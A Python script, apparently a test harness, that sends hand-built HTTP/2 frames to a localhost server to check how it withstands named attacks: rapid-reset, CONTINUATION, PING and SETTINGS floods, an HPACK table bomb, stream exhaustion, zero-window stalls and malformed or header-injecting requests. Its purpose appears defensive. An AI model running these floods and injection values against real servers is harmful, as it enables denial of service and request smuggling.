"""Speaks HTTP/2 to a server as no library would, frame by frame: `attacks.py PORT CERTIFICATE ATTACK`. Prints how the
server took it: `ended` and the codes of the frames with which it ended the connection, or `went on` and what it said."""

import socket
import ssl
import struct
import sys

DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    """A header field as a literal that no table keeps; both parts are shorter than 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path=b"/healthz", *more, method=b"GET"):
    pseudo = [(b":method", method), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", path)]
    return b"".join(field(name, value) for name, value in pseudo + list(more))


class Connection:
    def __init__(self, port, certificate, settings=b""):
        context = ssl.create_default_context(cafile=certificate)
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection(("localhost", port), timeout=20)
        self.socket = context.wrap_socket(plain, server_hostname="localhost")
        assert self.socket.selected_alpn_protocol() == "h2"
        self.rest = b""
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """False: the server takes no more."""
        try:
            self.socket.sendall(data)
            return True
        except (ConnectionError, ssl.SSLError, TimeoutError):
            return False

    def frames(self):
        """What the server says, frame by frame, until it hangs up."""
        while True:
            while len(self.rest) < 9 or len(self.rest) < 9 + int.from_bytes(self.rest[:3], "big"):
                try:
                    more = self.socket.recv(65_536)
                except (ConnectionError, ssl.SSLError):
                    return
                if not more:
                    return
                self.rest += more
            length = int.from_bytes(self.rest[:3], "big")
            kind, flags = self.rest[3], self.rest[4]
            stream = int.from_bytes(self.rest[5:9], "big") & 0x7FFFFFFF
            payload, self.rest = self.rest[9 : 9 + length], self.rest[9 + length :]
            yield kind, flags, stream, payload

    def end(self, enough=lambda kind, flags, stream: False):
        """How it ends: the codes of GOAWAY and RST_STREAM, in their order, and whether the connection is over."""
        told = []
        for kind, flags, stream, payload in self.frames():
            if kind == GOAWAY:
                told.append(f"goaway {int.from_bytes(payload[4:8], 'big')}")
            if kind == RESET:
                told.append(f"reset {int.from_bytes(payload[:4], 'big')}")
            if enough(kind, flags, stream):
                return "went on", told
        return "ended", told


def many(connection, piece, count=20_000):
    for start in range(0, count, 500):
        if not connection.send(b"".join(piece(number) for number in range(start, start + 500))):
            break
    return connection.end()


def stream_of(number):
    return 2 * number + 1


def rapid_reset(connection):
    def piece(number):
        stream = stream_of(number)
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, request()) + frame(
            RESET, 0, stream, struct.pack(">I", 8)
        )

    return many(connection, piece)


def continuations(connection):
    connection.send(frame(HEADERS, END_STREAM, 1, request()))
    return many(connection, lambda number: frame(CONTINUATION, 0, 1, field(b"x", b"y")))


def pings(connection):
    return many(connection, lambda number: frame(PING, 0, 0, struct.pack(">Q", number)))


def settings(connection):
    return many(connection, lambda number: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)))


def empty_data(connection):
    connection.send(frame(HEADERS, END_HEADERS, 1, request(b"/v1/stock/mug/receive", method=b"POST")))
    return many(connection, lambda number: frame(DATA, 0, 1))


def table_bomb(connection):
    """One long field is put in the table of the header fields, and named again a thousand times."""
    long = b"\x40\x01x\x7f" + bytes([0x80 | (3_000 - 127) & 0x7F, (3_000 - 127) >> 7]) + b"a" * 3_000
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request() + long + b"\xbe" * 1_000))
    return connection.end()


def too_many_streams(connection):
    """A hundred requests whose bodies do not come, and one more."""
    for number in range(101):
        connection.send(
            frame(
                HEADERS, END_HEADERS, stream_of(number),
                request(
                    b"/v1/stock/mug/receive", (b"content-type", b"application/json"), (b"content-length", b"14"),
                    method=b"POST"
                ),
            )
        )
    return connection.end()


def no_window(connection):
    """A hundred answers that the client does not let come; the server says their heads, and none of their bodies."""
    for number in range(100):
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream_of(number), request(b"/openapi.json")))
    heads = set()

    def enough(kind, flags, stream):
        assert kind != DATA
        if kind == HEADERS:
            heads.add(stream)
        return len(heads) == 100

    return connection.end(enough)


def wrong_requests(connection):
    """Requests that are none, each on a stream of its own, and then one that is."""
    end = END_HEADERS | END_STREAM
    wrong = [
        field(b":method", b"GET") + field(b":scheme", b"https"),
        request() + field(b":path", b"/"),
        request() + field(b":new", b"1"),
        field(b"a", b"b") + request(),
        request(b"/healthz", (b"Upper", b"1")),
        request(b"/healthz", (b"connection", b"close")),
        request(b"/healthz", (b"transfer-encoding", b"chunked")),
        request(b"/healthz", (b"te", b"gzip")),
        request(b"/healthz", (b"x", b"a\r\nb: c")),
        request(b"/health\x00z"),
        request(b"/healthz", method=b"G T"),
        request(b""),
    ]
    for number, fields in enumerate(wrong):
        connection.send(frame(HEADERS, end, stream_of(number), fields))
    last = stream_of(len(wrong))
    connection.send(frame(HEADERS, end, last, request()))
    return connection.end(lambda kind, flags, stream: kind == HEADERS and stream == last)


def not_http2(connection):
    connection.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100)
    return connection.end()


def short_body(connection):
    """A body that is shorter than it says."""
    fields = request(
        b"/v1/stock/mug/receive", (b"content-type", b"application/json"), (b"content-length", b"100"), method=b"POST"
    )
    connection.send(frame(HEADERS, END_HEADERS, 1, fields) + frame(DATA, END_STREAM, 1, b'{"quantity":1}'))
    return connection.end(lambda kind, flags, stream: stream == 1)


ATTACKS = {
    "rapid-reset": rapid_reset, "continuations": continuations, "pings": pings, "settings": settings,
    "empty-data": empty_data, "table-bomb": table_bomb, "too-many-streams": too_many_streams, "no-window": no_window,
    "wrong-requests": wrong_requests, "not-http2": not_http2, "short-body": short_body,
}

name = sys.argv[3]
first = struct.pack(">HI", 4, 0) if name == "no-window" else b""
how, told = ATTACKS[name](Connection(int(sys.argv[1]), sys.argv[2], first))
print(how, *dict.fromkeys(told), sep=", ")
